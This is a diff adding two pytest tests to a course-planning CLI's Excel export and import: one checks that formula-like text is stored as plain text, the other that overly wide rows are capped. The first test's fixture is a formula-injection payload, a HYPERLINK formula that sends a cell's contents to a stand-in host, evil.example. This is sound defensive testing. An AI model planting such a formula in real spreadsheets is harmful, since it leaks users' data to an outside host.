@@ -10,7 +10,7 @@ from click.testing import CliRunner
 from openpyxl import Workbook, load_workbook
 
 from lxkit.__main__ import cli
-from tests.helpers import write_portal
+from tests.helpers import valid_course, write_portal
 from tests.plan.test_round_trip import WEEKS, fill
 
 
@@ -92,3 +92,31 @@ def test_new_plan_never_overwrites_without_force(portal: Path) -> None:
     assert result.exit_code == 2 and "already exists; use --force" in result.output
     assert CliRunner().invoke(cli, ["new", "plan", "plan.xlsx", "--force"]).exit_code == 0
     assert CliRunner().invoke(cli, ["new", "plan", "plan.txt"]).exit_code == 2
+
+
+def test_texts_that_look_like_formulas_are_written_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&B2,"Open")'
+    files = valid_course("demo")
+    files["index.md"] = files["index.md"].replace("summary: A short", "summary: =1+1 A short")
+    module = files["01-reading-charts.md"]
+    files["01-reading-charts.md"] = module.replace("title: Reading charts", f"title: '{formula}'")
+    root = write_portal(tmp_path / "academy", {"demo": files})
+    monkeypatch.chdir(root)
+    assert CliRunner().invoke(cli, ["export", "plan", "demo", "-o", "out.xlsx"]).exit_code == 0
+    book = load_workbook(root / "out.xlsx")
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []  # Excel would run them
+    assert formula in [cell.value for cell in cells]
+
+
+def test_a_cell_far_out_right_does_not_make_every_row_that_wide(portal: Path) -> None:
+    from lxkit.plan.workbook import MAX_COLUMNS, _xlsx_sheets
+
+    book = load_workbook(portal / "plan.xlsx")
+    for number in range(2, 400):
+        book["Weeks"].cell(row=number, column=16384, value="x")  # column XFD: 16,384 cells a row
+        book["Instructions"].cell(row=number, column=16384, value="x")
+    book.save(portal / "plan.xlsx")
+    sheets = _xlsx_sheets(portal / "plan.xlsx")
+    assert max(len(row) for row in sheets["Weeks"]) == MAX_COLUMNS and len(sheets["Weeks"]) == 399
+    assert sheets["Instructions"] == []  # only the Course and Weeks sheets are read
